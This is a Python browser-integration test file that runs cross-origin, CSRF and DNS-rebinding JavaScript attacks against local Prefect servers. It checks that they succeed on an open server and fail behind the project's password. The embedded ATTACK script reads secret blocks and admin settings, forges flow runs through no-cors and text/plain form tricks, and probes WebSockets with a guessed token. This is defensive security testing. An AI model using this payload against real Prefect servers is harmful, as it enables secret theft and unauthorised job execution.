"""Attacks of web pages on the server of `up` in a real browser, and its UI that works there.

The same pages attack a server of Prefect's own first: where they fail, they prove nothing.
"""

import json
import time
from base64 import b64encode
from collections.abc import Generator, Iterator
from contextlib import contextmanager
from dataclasses import dataclass
from functools import partial
from http.server import SimpleHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from threading import Thread
from urllib.parse import urlsplit
from uuid import uuid4

import pytest
from prefect.blocks.system import Secret
from prefect.client.orchestration import get_client
from prefect.client.schemas.filters import FlowRunFilter, FlowRunFilterName

from prefect_bt.local_server.setup import DEPLOYMENT, deploy_train, ensure_pool, use_api
from tests.browser import PATIENCE, Page, browser
from tests.plain_server import plain_server
from tests.prefect_server import PrefectServer

pytest_plugins = ["tests.prefect_server"]
pytestmark = [
    pytest.mark.slow,
    pytest.mark.integration,
    pytest.mark.extended,  # test_server_password.py sends the same requests without a browser
]

ATTACK = """
(async (api, deployment, mark) => {
  const found = {};
  const attempt = async (way, act) => {
    try { found[way] = String(await act(way)); } catch (error) { found[way] = `failed: ${error}`; }
  };
  const secrets = `${api}/block_types/slug/secret/block_documents?include_secrets=true`;
  const create = `${api}/deployments/${deployment}/create_flow_run`;
  const run = (way) => JSON.stringify({name: `${mark}-${way}`, parameters: {definition: {}}});
  const typed = {"Content-Type": "application/json"};
  const text = async (url, options) => (await fetch(url, options)).text();

  await attempt("read", () => text(secrets));
  await attempt("preflighted-read", () => text(`${api}/block_documents/filter`,
    {method: "POST", headers: typed, body: JSON.stringify({include_secrets: true})}));
  await attempt("settings", () => text(`${api}/admin/settings`));
  await attempt("preflighted-run", (way) =>
    text(create, {method: "POST", headers: typed, body: run(way)}));
  await attempt("text-run", (way) =>
    text(create, {method: "POST", mode: "no-cors", body: run(way)}));
  await attempt("untyped-run", (way) =>
    text(create, {method: "POST", mode: "no-cors", body: new Blob([run(way)])}));
  await attempt("form-run", (way) => new Promise((resolve) => {
    const frame = document.createElement("iframe");
    frame.name = way;
    document.body.append(frame);
    const form = document.createElement("form");
    Object.assign(form, {method: "POST", action: create, enctype: "text/plain", target: way});
    const field = document.createElement("input");
    const [name, value] = run(way).split(":", 1).concat(run(way).slice(run(way).indexOf(":") + 1));
    field.name = `${name}:${value.slice(0, -1)}, "rest": "`;
    field.value = '"}';
    form.append(field);
    document.body.append(form);
    frame.addEventListener("load", () => resolve("sent"));
    form.submit();
  }));
  await attempt("image", () => new Promise((resolve) => {
    const image = new Image();
    image.onload = () => resolve("shown");
    image.onerror = () => resolve("no image");
    image.src = secrets;
  }));
  const socket = (path, protocols, first) => new Promise((resolve) => {
    const one = new WebSocket(api.replace("http", "ws") + path, protocols);
    one.onopen = () => first ? one.send(first) : resolve("opened");
    one.onmessage = (message) => resolve(message.data);
    one.onclose = () => resolve("closed");
  });
  const hello = JSON.stringify({type: "auth", token: "guessed:guessed"});
  await attempt("events", () => socket("/events/out", ["prefect"], hello));
  await attempt("logs", () => socket("/logs/out", ["prefect"], hello));
  await attempt("old-events", () => socket("/events/in", []));
  return found;
})
"""
READS = {"read", "preflighted-read", "settings"}
RUNS = {"preflighted-run", "untyped-run"}
"""Attacks that succeed on a server of Prefect's own: it parses a body without a type as JSON."""
SOCKETS = {"events": "auth_success", "logs": "auth_success", "old-events": "opened"}
ANSWERS = {"settings": '"analytics_enabled"', **SOCKETS}


@dataclass(frozen=True)
class Target:
    """A server with a secret; Prefect's client in this process may use it."""

    api_url: str
    secret: str
    deployment: str

    @property
    def port(self) -> int:
        return urlsplit(self.api_url).port or 0


def planted(api_url: str) -> Target:
    secret = f"planted-{uuid4().hex}"
    name = f"planted-{uuid4().hex}"
    Secret.model_validate({"value": secret}).save(name)
    with get_client(sync_client=True) as client:
        return Target(api_url, secret, str(client.read_deployment_by_name(DEPLOYMENT).id))


def runs_of(mark: str) -> set[str]:
    """Return the attacks that created a run."""
    wanted = FlowRunFilter(name=FlowRunFilterName(like_=mark))
    with get_client(sync_client=True) as client:
        runs = client.read_flow_runs(flow_run_filter=wanted)
    return {run.name.removeprefix(f"{mark}-") for run in runs}


@pytest.fixture(scope="module")
def page() -> Iterator[Page]:
    with browser() as one:
        yield one


@pytest.fixture(scope="module")
def foreign(tmp_path_factory: pytest.TempPathFactory) -> Iterator[int]:
    """Serve an empty page on another port of this machine; yield the port."""
    folder = tmp_path_factory.mktemp("pages")
    (folder / "index.html").write_text("<!doctype html><title>attack</title>")
    with serving(folder) as port:
        yield port


@contextmanager
def serving(folder: Path) -> Generator[int]:
    handler = partial(SimpleHTTPRequestHandler, directory=str(folder))
    with ThreadingHTTPServer(("127.0.0.1", 0), handler) as server:
        thread = Thread(target=server.serve_forever)
        thread.start()
        try:
            yield server.server_address[1]
        finally:
            server.shutdown()
            thread.join()


def places(target: Target, foreign: int) -> dict[str, tuple[str, str]]:
    """Return the origin of each page, and the API address that it uses."""
    api, rebound = f"http://127.0.0.1:{target.port}/api", f"http://rebound.test:{target.port}"
    return {
        "another port": (f"http://127.0.0.1:{foreign}/", api),
        "another site": (f"http://page.test:{foreign}/", f"http://localhost:{target.port}/api"),
        # The name of the attacker's own server, which is 127.0.0.1 since its page was loaded.
        "a name pointed here": (f"{rebound}/docs", f"{rebound}/api"),
    }


def attacked(page: Page, target: Target, where: tuple[str, str]) -> tuple[dict[str, str], set[str]]:
    """Return the page's result of each attack, and the attacks that created a run."""
    mark = f"attack-{uuid4().hex}"
    origin, api = where
    page.open(origin)
    arguments = ", ".join(json.dumps(one) for one in (api, target.deployment, mark))
    return page.run(f"{ATTACK}({arguments})"), runs_of(mark)


def test_attacks_succeed_on_an_open_server(page: Page, foreign: int, tmp_path: Path) -> None:
    with plain_server(tmp_path / "prefect") as api_url, use_api(api_url):
        ensure_pool()
        deploy_train()
        target = planted(api_url)
        for name, where in places(target, foreign).items():
            deadline = time.monotonic() + PATIENCE
            # Its SQLite may be busy, and the server refuse for that.
            while missing := failures(target, *attacked(page, target, where)):
                assert time.monotonic() < deadline, (name, missing)


def failures(target: Target, found: dict[str, str], created: set[str]) -> list[str]:
    """Return the attacks that failed although nothing protects the server."""
    expected = {"read": target.secret, "preflighted-read": target.secret, **ANSWERS}
    return [*(way for way, part in expected.items() if part not in found[way]), *(RUNS - created)]


@pytest.mark.parametrize("name", list(places(Target("http://x:1", "", ""), 1)))
def test_a_page_can_do_nothing(name: str, page: Page, foreign: int, prefect_api: str) -> None:
    target = planted(prefect_api)
    found, created = attacked(page, target, places(target, foreign)[name])
    assert target.secret not in json.dumps(found)
    assert created == set()
    for way in READS:
        assert found[way].startswith(("failed: ", "This server answers as ")), (way, found)
    for way in SOCKETS:
        assert found[way] == "closed", (way, found)


def test_the_ui_requires_the_password(page: Page, prefect_server: PrefectServer) -> None:
    ui = prefect_server.api_url.removesuffix("/api")
    page.open_app(f"{ui}/v2/deployments", "document.querySelector('input[type=password]')")
    assert "train" not in page.run("document.body.innerText")
    sign_in(page, "wrong:password")
    page.wait_for("/invalid|fail/i.test(document.body.innerText)")
    page.open_app(f"{ui}/v2/deployments", "document.querySelector('input[type=password]')")
    sign_in(page, prefect_server.auth)
    page.wait_for("!document.querySelector('input[type=password]')")
    stored = b64encode(prefect_server.auth.encode()).decode()
    assert page.run("localStorage.getItem('prefect-password')") == stored
    for version in ("/v2", ""):
        page.open_app(f"{ui}{version}/deployments", "document.body.innerText.includes('train')")


def sign_in(page: Page, password: str) -> None:
    page.run("document.querySelector('input[type=password]').focus()")
    page.call("Input.insertText", text=password)
    page.run("document.querySelector('button[type=submit]').click()")
